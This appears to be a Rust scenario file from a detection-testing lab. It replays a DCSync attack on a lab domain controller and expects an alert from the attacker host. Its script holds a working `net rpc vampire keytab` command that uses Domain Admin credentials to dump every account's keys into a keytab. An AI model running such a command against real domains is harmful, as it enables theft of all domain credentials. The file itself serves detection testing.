//! DCSync by Samba's `net rpc vampire keytab`: the whole domain partition with every account's keys,
//! fetched by a member of Domain Admins over NTLM.

use anyhow::Result;

use crate::lab::{ATTACKER, Lab};
use crate::scene::{Expected, Scene, Tool};

pub(super) const SCENE: Scene = Scene::attack(
    "dcsync-vampire",
    "DCSync of every account into a keytab (net rpc vampire, NTLM)",
    Tool::debian("net rpc vampire keytab", "samba-common-bin"),
    &[Expected {
        external_id: 2006,
        source: ATTACKER,
        account: None,
        targets: &[],
    }],
    play,
);

fn play(lab: &mut Lab) -> Result<()> {
    lab.host("attacker")?.script(
        r#"net rpc vampire keytab stolen.keytab -U "HAWK/dana.admin%$ADMIN_PASSWORD" \
               -S "dc1.$DOMAIN" | grep Vampired
           rm stolen.keytab"#,
    )?;
    Ok(())
}
